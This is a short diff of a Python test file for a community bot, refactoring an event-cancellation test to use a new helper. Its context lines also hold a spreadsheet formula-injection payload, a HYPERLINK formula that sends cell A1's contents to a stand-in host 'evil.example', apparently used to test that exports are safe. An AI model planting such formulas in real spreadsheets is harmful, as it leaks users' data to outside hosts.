@@ -15,6 +15,7 @@ from bot import spreadsheets as S
 from bot.db import Database
 from bot.db.models import Member
 from bot.db.models.activity import ImportedFigure
+from tests.conftest import cancel_event
 from tests.formula_payloads import FORMULA_PAYLOADS
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"clic")'
@@ -212,7 +213,7 @@ async def test_event_calendar_files_through_creation_change_and_cancellation(pro
     assert moved[0] == created[0] and moved[1] == "CONFIRMED" and moved[2] > created[2]
     assert moved[3].isoformat() == "2027-06-23T07:30:00+00:00"
     clock.set(clock() + timedelta(minutes=5))
-    await w.coordinator.slash(w.general, "evenement annuler", evenement="1", raison="salle indisponible")
+    await cancel_event(w.coordinator, w.general, evenement="1", raison="salle indisponible")
     cancelled = await current_ics()
     assert cancelled[0] == created[0] and cancelled[1] == "CANCELLED" and cancelled[2] > moved[2]
 
